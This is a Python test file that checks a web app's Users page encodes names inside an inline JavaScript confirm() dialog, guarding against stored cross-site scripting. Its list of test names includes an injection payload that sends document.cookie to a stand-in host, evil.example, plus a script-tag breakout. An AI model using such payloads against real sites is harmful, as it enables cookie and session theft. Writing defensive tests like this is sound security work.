"""The Users list puts each name into an inline `confirm(...)` script. HTML escaping is not enough
there: the browser decodes entities in the attribute before running it, so a name with a quote
would end the JavaScript string (stored XSS, and a broken confirmation for names like O'Brien)."""
from __future__ import annotations

import json
import re
from html.parser import HTMLParser

import pytest

from extensions import db as _db

NASTY = ["O'Brien", "x'); fetch('//evil.example/?c='+document.cookie); ('",
         '</script><script>alert(1)</script>', 'Amy "Quotes" & \\ backslash']


class _OnSubmit(HTMLParser):
    def __init__(self):
        super().__init__()
        self.scripts: list[str] = []

    def handle_starttag(self, tag, attrs):
        for name, value in attrs:
            if name == "onsubmit":
                self.scripts.append(value)  # as the browser hands it to JavaScript


@pytest.mark.parametrize("name", NASTY)
def test_deactivate_confirm_holds_the_name_as_one_js_string(client, login, users, name):
    users.admin.name = name
    _db.session.commit()
    login("owner")
    parser = _OnSubmit()
    parser.feed(client.get("/users").get_data(as_text=True))
    confirms = [s for s in parser.scripts if "Deactivate" in s]
    assert confirms, "no Deactivate confirmation on the page"
    messages = []
    for script in confirms:
        match = re.fullmatch(r"\s*return confirm\((\".*\")\);\s*", script, re.S)
        assert match, f"not a single string literal: {script!r}"
        messages.append(json.loads(match.group(1)))
    assert f"Deactivate {name}? They will no longer be able to sign in." in messages
